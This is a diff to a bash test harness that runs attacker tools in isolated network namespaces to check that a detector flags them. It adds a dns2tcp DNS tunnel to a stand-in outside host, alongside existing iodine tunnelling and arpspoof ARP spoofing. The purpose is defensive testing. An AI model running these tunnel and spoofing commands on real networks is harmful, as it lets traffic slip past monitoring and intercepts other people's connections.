@@ -1,10 +1,10 @@
 # The tools of attackers as Debian has them, beside the life of a household. Sourced by run.sh.
 # shellcheck shell=bash disable=SC2154,SC2034
 #
-#   attackers 192.0.2.x, sites, resolver, peers ── wan0 router lan0 ── client .10 (household) and .11-.13 (servers), intruder .20
+#   attackers 192.0.2.x, sites, resolver, peers ── wan0 router lan0 ── client .10 (household) and .11-.13 (servers), intruder .20, lodger .21
 #                                                          lan1 ── infected .66
 
-intruder=192.168.77.20 resolver=203.0.113.53 far_end=203.0.113.54
+intruder=192.168.77.20 lodger=192.168.77.21 resolver=203.0.113.53 far_end=203.0.113.54 other_end=203.0.113.55
 
 attack_tests=(
     a_household_for_a_week_raises_no_alert
@@ -20,7 +20,7 @@ attack_tests=(
 household_up() {
     local n
     need dnsmasq openssl || return
-    for n in 51 53 54 81 82 83 84 85 86 87 123 200; do ip -n "$A" address add 203.0.113.$n/32 dev lo 2>/dev/null; done
+    for n in 51 53 54 55 81 82 83 84 85 86 87 123 200; do ip -n "$A" address add 203.0.113.$n/32 dev lo 2>/dev/null; done
     ip -n "$A" route replace local 198.51.100.0/24 dev lo
     ip -n "$A" route replace local 192.0.2.0/24 dev lo
     for n in 11 12 13; do ip -n "$C" address add 192.168.77.$n/24 dev eth0 2>/dev/null; done
@@ -197,11 +197,13 @@ end_of() {
 }
 
 tunnels_beacons_and_liars_inside_are_blocked_beside_a_household() {
-    need iodine iodined arpspoof dhcpstarv && [ -c /dev/net/tun ] || { why=${why:-needs /dev/net/tun}; return 2; }
-    intruder_up || return 1
+    need iodine iodined dns2tcpc dns2tcpd arpspoof dhcpstarv && [ -c /dev/net/tun ] || { why=${why:-needs /dev/net/tun}; return 2; }
+    intruder_up && lodger_up || return 1
+    ip -n "$G" address add $lodger/24 dev mac1 && ip -n "$G" route add default via 192.168.77.1 || return 1
     local status=0
     beside_a_household inside_attacks || status=$?
     ip netns delete "$H"
+    ip netns delete "$G"
     return $status
 }
 
@@ -211,6 +213,12 @@ intruder_up() {
     ip -n "$H" address add $intruder/24 dev mac0
     ip -n "$H" link set mac0 up && ip -n "$H" link set lo up
     ip -n "$H" route add default via 192.168.77.1
+}
+
+# And a third one, without an IP address.
+lodger_up() {
+    ip netns add "$G" && ip -n "$C" link add link eth0 name mac1 type macvlan mode bridge && ip -n "$C" link set mac1 netns "$G" &&
+        ip -n "$G" link set mac1 up && ip -n "$G" link set lo up
 }
 
 # page_from NAMESPACE: whether a host inside gets to the outside.
@@ -224,7 +232,7 @@ no_page_from() { ! page_from "$1"; }
 
 inside_attacks() {
     # Nobody is blocked inside before a whole connection shows that the address is the host's own.
-    within 5 page_from "$I" && within 5 page_from "$H" || complain "the hosts get no page before they attack" || return 1
+    within 5 page_from "$I" && within 5 page_from "$H" && within 5 page_from "$G" || complain "the hosts get no page before they attack" || return 1
     # The victim of the lie shows itself to the router, which has to ask for it, and the router talks with it.
     ip -n "$R" neighbour flush dev lan0
     in_ns "$C" curl -s -o /dev/null --interface 192.168.77.11 http://$web/ || complain "the victim gets no page" || return 1
@@ -243,15 +251,24 @@ inside_attacks() {
     within 20 in_ns "$I" ping -q -c 1 -W 1 10.53.53.1 >/dev/null || complain "no tunnel: $(tail -n 1 "$dir/iodine.log")" || return 1
     start through-the-tunnel "$I" ping -q -i 0.02 -s 400 10.53.53.1
     attacks+=("$pid")
+    # The other tunnel asks for texts; pages come through it.
+    printf 'listen = %s\nport = 53\nuser = root\nchroot = %s\ndomain = d2t.other-lab.com\nkey = secret\nresources = web:%s:80\n' \
+        $other_end "$dir/house" 203.0.113.82 >"$dir/dns2tcpd.conf"
+    start dns2tcpd "$A" dns2tcpd -F -f "$dir/dns2tcpd.conf"
+    attacks+=("$pid")
+    assail dns2tcp $lodger "$G" dns2tcpc -z d2t.other-lab.com -k secret -r web -l 8888 -T TXT $other_end
+    within 20 in_ns "$G" curl -s -f -o /dev/null --max-time 5 http://127.0.0.1:8888/500 || complain "no page through dns2tcp: $(tail -n 1 "$dir/dns2tcp.log")" || return 1
+    start pages-through-names "$G" sh -c 'while :; do curl -s -o /dev/null --max-time 9 http://127.0.0.1:8888/20000; done'
+    attacks+=("$pid")
     insider_named iodine DNS_TUNNEL 60 "$I" || return 1
+    insider_named dns2tcp DNS_TUNNEL 60 "$G" || return 1
     insider_named arpspoof MITM_ARP_ATTACK 100 "$H"
 }
 
 a_second_server_of_addresses_and_a_glutton_are_named() {
     need dnsmasq dhcpstarv || return
     local status=0
-    intruder_up && ip netns add "$G" && ip -n "$C" link add link eth0 name mac1 type macvlan mode bridge && ip -n "$C" link set mac1 netns "$G" &&
-        ip -n "$G" link set mac1 up && ip -n "$G" link set lo up || return 1
+    intruder_up && lodger_up || return 1
     daemon_up width=300 && servers_of_addresses || status=$?
     for pid in "${attacks[@]}"; do
         kill -KILL "$pid" 2>/dev/null
